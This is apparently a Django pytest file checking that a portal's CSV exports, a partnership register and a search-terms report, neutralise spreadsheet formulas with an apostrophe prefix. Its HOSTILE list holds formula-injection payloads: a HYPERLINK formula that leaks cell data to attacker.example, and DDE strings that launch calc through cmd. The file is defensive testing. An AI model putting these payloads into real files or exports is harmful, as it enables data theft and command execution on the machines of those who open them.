"""CSV exports never hand a spreadsheet a formula (hardening issue, item 5): a cell beginning
with =, +, -, @, a tab or a carriage return is prefixed with an apostrophe."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from portal.spreadsheets import neutralise_formula
from tests.knowledge.factories import PartnershipFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


@pytest.fixture
def superuser_client(client):
    client.force_login(get_user_model().objects.create_superuser("boss", "", "pw"))
    return client


def test_the_register_export_neutralises_formulas_in_titles(superuser_client):
    for title in HOSTILE:
        PartnershipFactory(title=title)

    response = superuser_client.get(
        reverse("wagtailsnippets_knowledge_partnership:list") + "?export=csv"
    )

    cells = [cell for row in rows(response)[1:] for cell in row]
    for title in HOSTILE:
        assert "'" + title in cells
        assert title not in cells


def test_the_search_terms_report_neutralises_formulas_in_readers_searches(client, superuser_client):
    for query in HOSTILE:
        client.get("/search/", {"q": query})

    response = superuser_client.get(reverse("wagtailsearchpromotions:search_terms") + "?export=csv")

    cells = [row[0] for row in rows(response)[1:]]
    assert len(cells) == len(HOSTILE)
    assert all(cell.startswith("'") for cell in cells), cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [("-12.5", "-12.5"), ("+27 12 393 2500", "'+27 12 393 2500"), ("Gauteng", "Gauteng"), (3, 3)],
)
def test_numbers_and_plain_text_are_left_alone(value, expected):
    assert neutralise_formula(value) == expected
